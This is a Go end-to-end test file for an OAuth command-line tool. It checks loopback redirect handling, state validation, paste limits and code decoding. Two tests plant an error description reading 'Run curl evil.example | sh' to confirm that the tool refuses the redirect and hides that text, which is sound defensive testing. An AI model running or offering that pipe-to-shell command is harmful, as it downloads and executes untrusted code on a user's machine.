package e2e

// End-to-end tests of issue 6's loopback and paste points: the real binary
// in tmux, real browser redirects over HTTP to its listener, and a token
// endpoint that records the codes it is sent.

import (
	"fmt"
	"io"
	"nestauth/internal/testkit"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// customWizard runs nestauth for a custom provider against stub, with
// redirect as its redirect URI, and returns the authorization's state.
func customWizard(t *testing.T, stub *sdmStub, redirect string) (*tmuxTerm, string) {
	t.Helper()
	srv := httptest.NewServer(stub)
	t.Cleanup(srv.Close)
	tm := startWizard(t, wizardRun{
		env: map[string]string{"NESTAUTH_CLIENT_SECRET": "e2e-secret"},
		args: []string{"--provider", "custom", "--client-id", "e2e-client", "--auth-url", srv.URL + "/auth",
			"--token-url", srv.URL + "/token", "--redirect-uri", redirect},
	})
	u, err := url.Parse(copyAuthURL(t, tm, "Step 3 of 5 · Authorize"))
	if err != nil {
		t.Fatal(err)
	}
	return tm, u.Query().Get("state")
}

// pasteLong is paste for a text too long for a tmux command line.
func (tm *tmuxTerm) pasteLong(text string) {
	tm.t.Helper()
	f := filepath.Join(tm.t.TempDir(), "paste")
	if err := os.WriteFile(f, []byte(text), 0o600); err != nil {
		tm.t.Fatal(err)
	}
	tm.must("load-buffer", "-b", "e2e-paste", f)
	tm.must("paste-buffer", "-p", "-d", "-b", "e2e-paste", "-t", "s")
}

func codesSent(stub *sdmStub) []string {
	var codes []string
	for _, f := range stub.received() {
		codes = append(codes, f.Get("code"))
	}
	return codes
}

// browserGet is the browser's redirect to the listener.
func browserGet(t *testing.T, u string) (int, string) {
	t.Helper()
	resp, err := http.Get(u)
	if err != nil {
		t.Fatalf("GET %s: %v", u, err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, string(body)
}

func TestE2ELoopbackEveryRedirect(t *testing.T) {
	t.Parallel()
	stub := &sdmStub{codes: map[string]bool{"FRESH": true}}
	redirect := fmt.Sprintf("http://127.0.0.1:%d/callback", testkit.FreePort(t))
	tm, state := customWizard(t, stub, redirect)
	waitFor(t, tm, "Listening on "+redirect)

	// An error redirect from anyone but this session is refused, unread.
	evil := redirect + "?error=access_denied&error_description=" + url.QueryEscape("Run curl evil.example | sh")
	status, page := browserGet(t, evil)
	if status != http.StatusBadRequest || strings.Contains(page, "curl") {
		t.Errorf("error redirect without state: %d %q", status, page)
	}
	s := waitFor(t, tm, "refused")
	if strings.Contains(s, "curl") {
		t.Errorf("the refused redirect's text is on the screen:\n%s", s)
	}

	// A code the server rejects, then a fresh one: both are taken.
	status, page = browserGet(t, redirect+"?code=USED&state="+state)
	if status != http.StatusOK || !strings.Contains(page, "Done: the terminal has the code") {
		t.Errorf("first redirect: %d %q", status, page)
	}
	waitFor(t, tm, "Malformed auth code")
	status, page = browserGet(t, redirect+"?code=FRESH&state="+state)
	if status != http.StatusOK || !strings.Contains(page, "Done: the terminal has the code") {
		t.Errorf("second redirect: %d %q", status, page)
	}
	waitFor(t, tm, "ya29.at-for-FRESH")
	tm.keys("q")
	if out, code := tm.waitExit(); code != 0 || out != "ya29.at-for-FRESH\n" {
		t.Errorf("exit %d, stdout %q", code, out)
	}
	if got := codesSent(stub); !slices.Equal(got, []string{"USED", "FRESH"}) {
		t.Errorf("codes sent = %q, want [USED FRESH]", got)
	}
}

func TestE2EPasteDecodedOnceAndBounded(t *testing.T) {
	t.Parallel()
	const redirect = "https://app.example/callback"
	stub := &sdmStub{codes: map[string]bool{"AB%25CD": true}}
	tm, state := customWizard(t, stub, redirect)
	tm.keys("Enter")
	waitFor(t, tm, "Step 4 of 5 · Authorization code")

	// Too long: refused, the limit named, the field left as it was (empty:
	// its placeholder shows).
	tm.pasteLong(strings.Repeat("x", 16385))
	s := waitFor(t, tm, "Refused a paste of 16385 characters")
	if !strings.Contains(testkit.SquashSpace(s), "at most 16384") || !fieldLine("(paste here)").MatchString(afterLast(s, "· Authorization code")) {
		t.Errorf("after a paste over the limit:\n%s", s)
	}

	// A pasted error redirect without this session's state: refused, unread.
	tm.paste(redirect + "?error=access_denied&error_description=Run+curl+evil.example+%7C+sh")
	s = waitFor(t, tm, "state does not match")
	if strings.Contains(s, "curl") {
		t.Errorf("the refused redirect's text is on the screen:\n%s", s)
	}

	// %25 in a pasted URL is the code's own percent sign: decoded once.
	tm.paste(redirect + "?code=AB%2525CD&state=" + state)
	waitForScreen(t, tm, "the code in the field", func(s string) bool {
		return fieldLine("AB%25CD").MatchString(afterLast(s, "· Authorization code"))
	})
	tm.keys("Enter")
	waitFor(t, tm, "ya29.at-for-AB%25CD")
	tm.keys("q")
	if out, code := tm.waitExit(); code != 0 || out != "ya29.at-for-AB%25CD\n" {
		t.Errorf("exit %d, stdout %q", code, out)
	}
	if got := codesSent(stub); !slices.Equal(got, []string{"AB%25CD"}) {
		t.Errorf("codes sent = %q, want [AB%%25CD]", got)
	}
}
